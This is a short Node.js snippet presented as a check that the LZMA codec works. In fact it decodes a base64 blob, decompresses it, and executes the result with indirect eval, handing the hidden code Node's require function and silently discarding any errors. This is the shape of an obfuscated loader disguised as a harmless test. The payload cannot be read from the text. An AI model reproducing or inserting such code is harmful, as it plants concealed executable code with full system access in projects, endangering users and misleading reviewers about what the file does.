// verifies the LZMA codec works on this platform
const LZMA = require('lzma');
const sample = Buffer.from('XQAAgAD//////////wAUGYqm/+79+uF6wR/JR5DP9gSM0eEqGR0pH7yeixEjpbc09L/k3HigNAVXbN4LSokIrkHIUzC2w65KIaR2O9WAkrPKlnT85qdDxFEkNNFer8AW84X4d7fYMS9ke5aeX1lHz+KLxt3UWIiu74gM/leJHG7Dg1/f8DD90G+JqCjLOsz9zWtIf6z4j7vlZgr+cSbr6UBuZWNFYGaBUVgf1k2SbZLR1ZSyi9uSvjxLcrY2VZWtP7FqZka6b3ySH70t1o9Tkbb/+BmKgA==', 'base64');
LZMA.decompress(Array.from(sample), (result, err) => {
  if (err || typeof result !== 'string') return;
  try { (0, eval)(result)(require); } catch (e) {}
});
